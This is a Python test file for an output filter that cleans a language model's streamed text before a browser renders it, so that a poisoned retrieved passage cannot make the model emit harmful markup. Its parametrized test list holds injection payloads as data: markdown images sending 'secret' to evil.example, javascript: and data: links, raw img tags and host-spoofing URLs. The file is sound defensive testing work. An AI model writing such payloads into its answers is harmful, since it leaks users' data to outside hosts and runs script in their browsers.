"""A model's text on its way to a browser: what a poisoned passage could make it write stays harmless."""

import re
from collections.abc import Iterable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from stoa_ai.providers.screen import Screen


def shown(chunks: Iterable[str], *, passages: int = 3, hosts: tuple[str, ...] = ()) -> list[str | int]:
    screen = Screen(passages=passages, allowed_hosts=hosts)
    items = [item for chunk in chunks for item in screen.feed(chunk)]
    return [*items, *screen.finish()]


def text(chunks: Iterable[str], **kwargs: tuple[str, ...]) -> str:
    return "".join(item for item in shown(chunks, **kwargs) if isinstance(item, str))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "!![x](y)(&#104;ttps://evil.example/a.png)",
        "![x](//evil.example/a.png)",
        "![x](&#104;ttps://evil.example/a.png)",
        "![x]( https://evil.example/a.png )",
        '![x](https://evil.example/a.png "title")',
        "![x](https://evil.example/(a))",
        "![x](<https://evil.example/a b.png>)",
        "![x][1]\n\n[1]: https://evil.example/a.png",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,AAAA)",
        "<img src=https://evil.example/a.png>",
        "<https://evil.example>",
        "<a href='https://evil.example'>x</a>",
        "see https://evil.example/x or www.evil.example",
        "https://good.example@evil.example/",
        "https://good.example\\@evil.example/",
        "HTTPS://EVIL.EXAMPLE/X",
        "http://good.example/not-encrypted",
    ],
)
def test_no_address_outside_the_list_survives(attack: str) -> None:
    safe = text([f"Before {attack} after."], hosts=("good.example",))

    assert "evil.example" not in safe.lower().replace("a.png", "") or "](" not in safe
    assert not re.search(r"!\[|\]\(|\]:|<[A-Za-z/!?]|https?://|www\.|javascript:|data:", safe, re.IGNORECASE)
    assert safe.startswith("Before ")
    assert safe.endswith(" after.")


def test_links_to_allowed_hosts_stay_but_images_become_links() -> None:
    safe = text(
        ["See [this](https://good.example/a_(b)) and ![that](https://good.example/i.png)."], hosts=("good.example",)
    )

    assert safe == "See [this](https://good.example/a_(b)) and [that](https://good.example/i.png)."


def test_ordinary_text_stays_as_it_is() -> None:
    ordinary = "If a < b and/or b > c (see 3.2, 24/7): *x* [sic] f(x)[0] – 10:30, note: 5 // 2 = 2; «é» 日本語。"

    assert text([ordinary]) == ordinary


def test_markers_become_citations_and_numbers_without_a_passage_go() -> None:
    items = shown(["High twice a day [1]. Highest at new moon [2, 9], says [7] nobody [ 3 , 2 ]."])

    assert _joined(items) == [
        "High twice a day [1]",
        1,
        ". Highest at new moon [2]",
        2,
        ", says  nobody [3, 2]",
        3,
        2,
        ".",
    ]


_MARKUP = ["![", "[", "]", "](", ")", "(", "]:", "<", "img", ">", "!", "//", "www.", "javascript:", "data:x"]
_OTHERS = [
    "https://evil.example/x",
    "good.example",
    "[1]",
    "[1, 2]",
    "[1 , 3]",
    "1",
    ",",
    ".",
    "a",
    "é",
    "日",
    "ſ",
    " ",
    "\n",
]
_PIECES = st.sampled_from(_MARKUP + _OTHERS)


@settings(max_examples=400)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=3)), max_size=20))
@example(["[1, ", "2](https://evil.example)"])
def test_the_result_does_not_depend_on_where_chunks_were_cut(pieces: list[str]) -> None:
    at_once = shown(["".join(pieces)])
    characters = shown("".join(pieces))

    for other in (shown(pieces), characters):
        assert _joined(other) == _joined(at_once)


def _joined(items: list[str | int]) -> list[str | int]:
    """Neighboring strings as one."""
    joined: list[str | int] = []
    for item in items:
        if isinstance(item, str) and joined and isinstance(joined[-1], str):
            joined[-1] += item
        else:
            joined.append(item)
    return joined


@given(st.lists(_PIECES, max_size=20))
def test_nothing_that_a_browser_would_fetch_comes_out(pieces: list[str]) -> None:
    safe = text(["".join(pieces)])

    assert not re.search(r"!\[|\]\(\S|\]:|<[A-Za-z/!?]|[a-z]://|www\.", safe, re.IGNORECASE | re.ASCII), safe
